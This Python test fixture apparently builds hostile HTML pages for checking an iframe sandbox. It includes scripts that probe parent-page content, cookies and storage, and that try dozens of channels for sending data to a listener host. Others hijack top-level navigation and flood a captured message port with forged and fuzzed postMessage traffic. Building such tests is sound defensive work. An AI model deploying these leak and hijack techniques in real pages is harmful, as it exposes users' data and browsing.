"""Prototypes that attack: what their pages read, where they send it, and how they lead away."""


def page_with(inside: str) -> bytes:
    return (
        '<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Exempel</title></head>'
        f"<body><h1>Exempel</h1>{inside}</body></html>"
    ).encode()


def page_script(script: str) -> str:
    return f"<script>{script}</script>"


def constants(listener: str, app: str) -> str:
    return f"const LISTENER = '{listener}'; const APP = '{app}';"


def page_with_listener(inside: str, listener: str) -> str:
    return inside.replace("LISTENER + '", f"'{listener}").replace("LISTENER", listener)


READS = """
const report = {};
const look = (name, act) => {
  try { const found = act(); report[name] = found === undefined ? "nothing" : String(found); }
  catch (error) { report[name] = "refused"; }
};
look("parent page", () => parent.document.body.innerHTML);
look("parent address", () => parent.location.href);
look("top address", () => top.location.href);
look("parent variable", () => parent.secret);
look("frame element", () => frameElement && frameElement.src);
look("cookies", () => document.cookie);
look("cookies set", () => { document.cookie = "a=b; path=/"; return document.cookie; });
look("local storage", () => localStorage.length);
look("session storage", () => sessionStorage.length);
look("database", () => indexedDB.open("x"));
look("caches", () => caches.keys && "caches");
look("worker for the whole site", () => navigator.serviceWorker.register("sw.js"));
look("origin", () => self.origin);
look("referrer", () => document.referrer);
look("opener", () => opener);
window.report = report;
"""

SENDS = """
const away = (name) => LISTENER + "/" + name;
const attempt = (act) => {
  try { Promise.resolve(act()).catch(() => {}); } catch (error) { /* refused */ }
};
const add = (tag, values, inside = "") => attempt(() => {
  const made = Object.assign(document.createElement(tag), {});
  for (const [name, value] of Object.entries(values)) made.setAttribute(name, value);
  made.innerHTML = inside;
  document.body.append(made);
  return made;
});
attempt(() => fetch(away("fetch")));
attempt(() => fetch(away("fetch-no-cors"), { mode: "no-cors", method: "POST", body: "x" }));
attempt(() => fetch(away("keepalive"), { mode: "no-cors", keepalive: true }));
attempt(() => fetch(APP + "/arbete", { credentials: "include", mode: "no-cors" }));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", away("xhr")); x.send(); });
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", away("sync"), false); x.send(); });
attempt(() => navigator.sendBeacon(away("beacon"), "x"));
attempt(() => new WebSocket(away("websocket").replace("http", "ws")));
attempt(() => new EventSource(away("events")));
attempt(() => { new Image().src = away("image"); });
attempt(() => new FontFace("away", `url(${away("fontface")})`).load());
attempt(() => new Audio(away("audio-object")).play());
attempt(() => new Worker(away("worker")));
attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${away("blob-worker")}")`]))));
attempt(() => new SharedWorker(away("shared-worker")));
attempt(() => import(away("import")));
attempt(() => CSS.paintWorklet && CSS.paintWorklet.addModule(away("worklet")));
attempt(() => new WebTransport(away("transport").replace("http:", "https:")));
for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest",
  "prerender", "dns-prefetch", "search", "alternate stylesheet", "apple-touch-icon"]) {
  add("link", { rel, href: away("link-" + rel.replace(" ", "-")), as: "image" });
}
add("script", { src: away("script") });
add("script", { type: "speculationrules" });
attempt(() => {
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  const list = { source: "list", urls: [away("speculation")] };
  rules.textContent = JSON.stringify({ prefetch: [list] });
  document.head.append(rules);
});
add("iframe", { src: away("iframe") });
add("iframe", { srcdoc: `<img src="${away("srcdoc")}">` });
add("object", { data: away("object") });
add("embed", { src: away("embed") });
add("video", { src: away("video"), autoplay: "", poster: away("poster") });
add("audio", { src: away("audio"), preload: "auto" });
add("video", {}, `<track default kind="captions" src="${away("track")}">`);
add("picture", {}, `<source srcset="${away("srcset")}"><img src="${away("picture")}">`);
add("div", { style: `background: url(${away("style-attribute")})` });
add("style", {}, `@import url(${away("import-css")}); @font-face { font-family: z; src:
  url(${away("font-css")}); } p { font-family: z; background: url(${away("css")}); cursor:
  url(${away("cursor")}), auto; list-style-image: url(${away("bullet")}); }`);
add("p", {}, "text");
add("div", {}, `<svg><image href="${away("svg-image")}"/><use href="${away("svg-use")}#a"/></svg>`);
add("input", { type: "image", src: away("input-image") });
add("base", { href: LISTENER + "/base/" });
add("img", { src: "relative-to-base.png" });
add("meta", { "http-equiv": "refresh", content: `5;url=${away("meta-refresh")}` });
const send = (method, target) => attempt(() => {
  const form = document.createElement("form");
  Object.assign(form, { method, target, action: away(`form-${method}${target}`) });
  document.body.append(form);
  form.submit();
});
for (const target of ["_top", "_blank", "_parent"]) send("get", target);
for (const target of ["_blank", "_top", "_parent"]) {
  attempt(() => {
    const link = document.createElement("a");
    Object.assign(link, { href: away("link" + target), target, ping: away("ping" + target) });
    document.body.append(link);
    link.click();
  });
}
attempt(() => window.open(away("popup")));
attempt(() => { top.location = away("top"); });
attempt(() => { parent.location.href = away("parent"); });
attempt(() => top.location.replace(away("top-replace")));
setTimeout(() => { window.isDone = true; }, 1500);
// What leads the frame itself away ends this script, so it comes last.
setTimeout(send, 3000, "post", "_self");
setTimeout(() => { window.isOver = true; }, 3500);
"""

LEAVES = {
    "adress": page_script("location.href = LISTENER + '/own-location';"),
    "ersatter": page_script("location.replace(LISTENER + '/own-replace');"),
    "lank": page_script(
        "const a = document.createElement('a'); a.href = LISTENER + '/own-link';"
        "document.body.append(a); a.click();"
    ),
    "formular": page_script(
        "const f = document.createElement('form'); f.action = LISTENER + '/own-form';"
        "document.body.append(f); f.submit();"
    ),
    "pekar": '<meta http-equiv="refresh" content="0;url=LISTENER/own-refresh">',
}
"""Pages that lead their own frame away at once."""

MESSAGES = """
const good = (id) => ({ v: 1, type: "hotspot", id, t: 1 });
const forged = [
  null, 7, "text", [], [good("a")], {}, { ...good("a"), extra: 1 }, { ...good("a"), v: 2 },
  { ...good("a"), type: "script" }, { ...good("a"), type: "constructor" },
  { ...good("a"), id: "ÅÄÖ" },
  { ...good("a"), id: "<b>" }, { ...good("a"), id: "a".repeat(65) }, { ...good("a"), id: "" },
  { ...good("a"), id: "a".repeat(100000) }, { ...good("a"), id: ["a"] }, { ...good("a"), t: NaN },
  { ...good("a"), t: -1 }, { ...good("a"), t: "1" }, new Map([["v", 1]]), new ArrayBuffer(3000),
];
addEventListener("message", (event) => {
  if (!event.ports[0] || window.stolen) return;
  window.stolen = event.ports[0];
  const one = (n) => {
    if (n < forged.length) {
      window.stolen.postMessage(forged[n]);
      setTimeout(one, 70, n + 1);
      return;
    }
    setTimeout(() => {
      for (let n = 0; n < 1000; n += 1) window.stolen.postMessage(good("flood-" + n));
      for (let n = 0; n < 200; n += 1) parent.postMessage(good("beside"), "*");
      window.isDone = true;
    }, 1200);
  };
  one(0);
});
parent.postMessage({ v: 1, type: "ready", id: "prototype", t: 0 }, "*");
"""


def attacks(listener: str, app: str) -> dict[str, str]:
    """What is inside the page of each prototype that attacks, by slug."""
    return {
        "laser": page_script(READS),
        "skickar": page_script(constants(listener, app) + SENDS),
        "tjatar": page_script(MESSAGES),
        **{name: page_with_listener(inside, listener) for name, inside in LEAVES.items()},
    }
